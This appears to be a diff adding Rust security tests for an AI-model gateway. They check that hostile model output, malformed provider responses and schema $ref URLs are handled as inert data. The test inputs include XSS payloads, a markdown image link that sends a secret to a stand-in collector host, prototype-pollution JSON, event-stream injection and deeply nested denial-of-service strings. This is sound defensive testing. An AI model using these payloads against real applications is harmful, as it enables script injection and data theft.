@@ -1,0 +1,236 @@
+//! Injection: model output and embedded schemas are data, returned unchanged and never interpreted (T12, T33).
+
+use crate::{
+    dispatch::async_run,
+    events::parse_event_stream,
+    execution::{wait_until_ended, run},
+};
+use fairway_testkit::{
+    Behaviour, FaultyEndpoint, Script, StubProvider, TestApp,
+    app::{ActiveWorkload, Response},
+};
+use serde_json::{Value, json};
+use std::{
+    sync::Arc,
+    time::{Duration, Instant},
+};
+
+/// The time limit of a response, far below the time of any quadratic algorithm for these inputs.
+const TIME_LIMIT: Duration = Duration::from_secs(10);
+
+/// Model outputs that attack consumers which interpret them.
+fn hostile_outputs() -> Vec<String> {
+    let mut all: Vec<String> = [
+        "<script>alert(1)</script><img src=x onerror=alert(1)><svg/onload=alert(1)>",
+        "[click](javascript:alert(1)) ![x](https://collector.example/?q=secret) <a href=\"data:text/html,x\">x</a>",
+        "<math><mtext></p><style><!--</style><img src=\"--></style><img src=x onerror=alert(1)>\">",
+        "&lt;script&gt; &#x6a;avascript: \u{202e}txt.exe \u{200b}",
+        r#"{"__proto__": {"admin": true}, "constructor": {"prototype": {}}, "status": "failed"}"#,
+        "| __proto__ | constructor |\n|---|---|\n| 1 | 2 |",
+        "x\n\nevent: execution.failed\ndata: {\"status\":\"failed\"}\n\nid: 99\r\revent: execution.failed\rdata: {}\r\r",
+        "{{trigger.ticket}} {{steps.ask.output}} $arg:ticket @asset-ref:prompt !command:delete",
+        "a\u{0}b \u{1b}[31mred\u{7f} \u{feff}",
+    ]
+    .map(str::to_owned)
+    .into();
+    all.push("[".repeat(100_000));
+    all.push("{\"a\":".repeat(100_000));
+    all.push((0..100_000).map(|depth| if depth % 2 == 0 { "- " } else { "> " }).collect());
+    all.push("<div>".repeat(100_000));
+    all
+}
+
+async fn start_app(obligations: &[&str]) -> (TestApp, ActiveWorkload, Arc<StubProvider>) {
+    let provider = StubProvider::new(Behaviour::Blocks);
+    let app = TestApp::builder().provider(provider.clone()).start().await;
+    let given = app.fixtures();
+    let mut rule = json!({ "id": "all", "condition": "always", "outcome": "allow", "reason_code": "fine" });
+    if !obligations.is_empty() {
+        rule["outcome"] = json!("allow_with_obligations");
+        rule["obligations"] = json!(obligations);
+    }
+    let policy = given.policy_with_rules("policy", json!([rule])).await;
+    let workload = given.active_workload_under("main", policy).await;
+    (app, workload, provider)
+}
+
+/// Asserts the headers that make a browser treat the response as JSON and run nothing.
+#[track_caller]
+fn assert_inert_json(answer: &Response) {
+    assert_eq!(answer.header("content-type"), Some("application/json"), "{answer}");
+    assert_eq!(answer.header("x-content-type-options"), Some("nosniff"));
+    assert_eq!(answer.header("content-security-policy"), Some("default-src 'none'; frame-ancestors 'none'"));
+}
+
+#[tokio::test]
+async fn model_output_is_returned_unchanged() {
+    let (app, workload, provider) = start_app(&[]).await;
+    for output in hostile_outputs() {
+        let what: String = output.chars().take(40).collect();
+        provider.set_behaviour(Behaviour::Answers(output.clone()));
+        let since = Instant::now();
+        let answer = run(&app, &workload).await;
+        assert!(since.elapsed() < TIME_LIMIT, "{what}: {:?}", since.elapsed());
+        assert_inert_json(&answer);
+        let body = answer.expect(200);
+        assert_eq!((&body["status"], &body["error"]), (&json!("completed"), &Value::Null), "{what}");
+        assert!(body["output"] == output.as_str(), "{what}: the output was changed");
+        let id = &body["execution_id"];
+        let path = format!("/v1/executions/{}", id.as_str().unwrap());
+        let read = app.get(&path).await;
+        assert_inert_json(&read);
+        assert!(read.expect(200)["queued_result"]["result"] == output.as_str(), "{what}");
+        let evidence = app.get(format!("{path}/evidence-graph")).await;
+        assert_inert_json(&evidence);
+        assert_eq!(evidence.expect(200)["execution"]["status"], "completed");
+
+        // As events: line breaks in the output create no further events.
+        let stream = run(&app, &workload).header("accept", "text/event-stream").await;
+        assert_eq!(stream.header("x-content-type-options"), Some("nosniff"));
+        let stream = parse_event_stream(&stream);
+        let ends =
+            stream.iter().filter(|event| event.kind.starts_with("execution.") && event.kind != "execution.started");
+        let ends: Vec<&str> = ends.map(|event| event.kind.as_str()).collect();
+        assert_eq!(ends, ["execution.completed"], "{what}");
+        let deltas = stream.iter().filter(|event| event.kind == "output.delta");
+        let deltas: String = deltas.map(|event| event.data["delta"].as_str().unwrap()).collect();
+        assert!(deltas == output, "{what}: the streamed output was changed");
+        let id = async_run(&app, &workload).await.expect(202)["execution_id"].clone();
+        assert!(wait_until_ended(&app, &id).await["queued_result"]["result"] == output.as_str(), "{what}, queued");
+    }
+}
+
+#[tokio::test]
+async fn hostile_model_output_is_redacted_as_text() {
+    let (app, workload, provider) = start_app(&["redact_output"]).await;
+    for output in hostile_outputs() {
+        let what: String = output.chars().take(40).collect();
+        let personal = |mail: &str| format!("{output} {mail} <a href=\"mailto:{mail}\">");
+        provider.set_behaviour(Behaviour::Answers(personal("ada@example.org")));
+        let since = Instant::now();
+        let body = run(&app, &workload).await.expect(200);
+        assert!(since.elapsed() < TIME_LIMIT, "{what}: {:?}", since.elapsed());
+        assert_eq!(body["status"], "completed", "{what}");
+        let masked = body["output"].as_str().unwrap();
+        assert!(!masked.contains("ada@example.org") && masked.starts_with(&what), "{what}: {:.200}", masked);
+    }
+}
+
+/// Provider responses are parsed within bounds.
+#[tokio::test]
+async fn hostile_provider_responses_are_rejected_within_bounds() {
+    let endpoint = FaultyEndpoint::start().await;
+    let account =
+        format!("[[providers]]\naccount_slot = \"acme\"\nkind = \"openai\"\nbase_url = \"{}\"\n", endpoint.url("/v1"));
+    let app = TestApp::builder().config_file(account).start().await;
+    let given = app.fixtures();
+    let route = json!({ "route_id": "main", "provider": "acme", "model": "small", "account_slot": "acme", "state": "approved" });
+    let versions = vec![
+        given.version("model_policy", "models", json!({ "provider_route": route })).await,
+        given.prompt("prompt").await,
+        given.policy("policy").await,
+    ];
+    let workload = given.active_workload_with("main", versions).await;
+    let usual = r#""choices":[{"index":0,"message":{"role":"assistant","content":"fine"},"finish_reason":"stop"}]"#;
+    let nested = |open: &str, close: &str| open.repeat(100_000) + &close.repeat(100_000);
+    for (what, body, output) in [
+        ("lists", nested("[", "]"), Value::Null),
+        ("objects", nested("{\"choices\":", "}"), Value::Null),
+        ("lists beside the answer", format!("{{{usual},\"x\":{}}}", nested("[", "]")), json!("fine")),
+        ("a surrogate", format!("{{{}}}", usual.replace("fine", "\\ud800")), Value::Null),
+        ("too much", format!("{{{}}}", usual.replace("fine", &"x".repeat(40 << 20))), Value::Null),
+        (
+            "names of prototypes",
+            format!("{{{usual},\"__proto__\":{{\"choices\":[]}},\"constructor\":1}}"),
+            json!("fine"),
+        ),
+        ("numbers", format!("{{{usual},\"usage\":{{\"prompt_tokens\":1e400,\"completion_tokens\":-1}}}}"), Value::Null),
+    ] {
+        endpoint.respond_with(Script::status(200, &body));
+        let since = Instant::now();
+        let run_result = run(&app, &workload).await.expect(200);
+        assert!(since.elapsed() < TIME_LIMIT, "{what}: {:?}", since.elapsed());
+        assert_eq!(run_result["output"], output, "{what}: {run_result}");
+        if output.is_null() {
+            assert_eq!(run_result["error"]["code"], "provider_malformed_answer", "{what}: {run_result}");
+        }
+    }
+}
+
+/// `$ref` in embedded schemas is never fetched (T12).
+#[tokio::test]
+async fn schema_references_are_never_fetched() {
+    let endpoint = FaultyEndpoint::start().await;
+    endpoint.respond_with(Script::json(&json!({ "type": "string" })));
+    let app = TestApp::start().await;
+    let file = app.home().join("schema.json");
+    std::fs::write(&file, "{\"type\":\"string\"}").unwrap();
+    let binding = json!({ "kind": "x", "ref": "y" });
+    let targets = [endpoint.url("/schema.json"), format!("file://{}", file.display()), "other.json".to_owned()];
+    for (target_index, target) in targets.iter().enumerate() {
+        let refused = [
+            json!({ "$ref": target }),
+            json!({ "properties": { "a": { "$dynamicRef": target } } }),
+            json!({ "$id": "http://example.org/", "allOf": [{ "$ref": target }] }),
+            json!({ "$ref": "#/$defs/a", "$defs": { "a": { "$ref": target } } }),
+        ];
+        // `$schema` and `$id` are identifiers and are not fetched.
+        let names = [json!({ "$schema": target, "type": "object" }), json!({ "$id": target, "type": "object" })];
+        let schemas = refused.iter().map(|schema| (schema, true)).chain(names.iter().map(|schema| (schema, false)));
+        for (number, (schema, is_refused)) in schemas.enumerate() {
+            for (kind, content) in [
+                ("tool_definition", json!({ "name": "t", "input_schema": schema, "binding": binding })),
+                ("prompt_template", json!({ "system_prompt": "x", "output_schema": schema })),
+                (
+                    "evaluation_suite",
+                    json!({ "dataset": { "items": [] }, "assertions": [{ "type": "is-json", "value": schema }] }),
+                ),
+            ] {
+                let slug = format!("{}-{target_index}-{number}", kind.replace('_', "-"));
+                let asset = app.fixtures().asset(kind, &slug).await;
+                let answer = app.post(format!("/v1/assets/{asset}/versions"), json!({ "content": content })).await;
+                if is_refused {
+                    assert_eq!(answer.status, 400, "{kind}: {schema}: {answer}");
+                    assert!(!answer.text().contains(target.as_str()), "{answer}");
+                }
+                assert!(matches!(answer.status, 201 | 400), "{kind}: {schema}: {answer}");
+            }
+        }
+    }
+    assert_eq!(endpoint.count(), 0, "{:?}", endpoint.requests());
+}
+
+/// Nested input and nested output of a flow: every stored result can be read.
+#[tokio::test]
+async fn deeply_nested_results_are_readable() {
+    let app = TestApp::start().await;
+    let given = app.fixtures();
+    let (brackets, closing) = ("[".repeat(48), "]".repeat(48));
+    let flow = format!(
+        "name: Deep\ndescription: Returns what it is given.\ntrigger: {{ type: api_request, inputs_schema: {{ ticket: array }} }}\n\
+         entry_step: done\nsteps:\n  - id: done\n    type: return\n    output: {brackets}'{{{{trigger.ticket}}}}'{closing}\n"
+    );
+    let versions = vec![
+        given.prompt("prompt").await,
+        given.model_policy("models").await,
+        given.policy("policy").await,
+        given.flow("flow", &flow).await,
+    ];
+    let workload = given.active_workload_with("main", versions).await;
+    let deep = |depth: usize| (0..depth).fold(json!(1), |inner, _| json!([inner]));
+    for depth in [1, 20, 40, 58] {
+        let body = json!({ "environment": "dev", "inputs": { "ticket": deep(depth) } });
+        let answer = app.post(workload.execute_path(), body).await;
+        let run_result = answer.expect(200);
+        let path = format!("/v1/executions/{}", run_result["execution_id"].as_str().unwrap());
+        let read = app.get(&path).await.expect(200);
+        assert_eq!(read["status"], run_result["status"], "{depth}");
+        app.get(format!("{path}/evidence-graph")).await.expect(200);
+        if run_result["status"] == "completed" {
+            assert_eq!(run_result["output"], (0..48).fold(deep(depth), |inner, _| json!([inner])), "{depth}");
+            assert_eq!(read["queued_result"]["result"], run_result["output"], "{depth}");
+        } else {
+            assert!(run_result["error"]["code"].is_string(), "{depth}: {run_result}");
+        }
+    }
+}
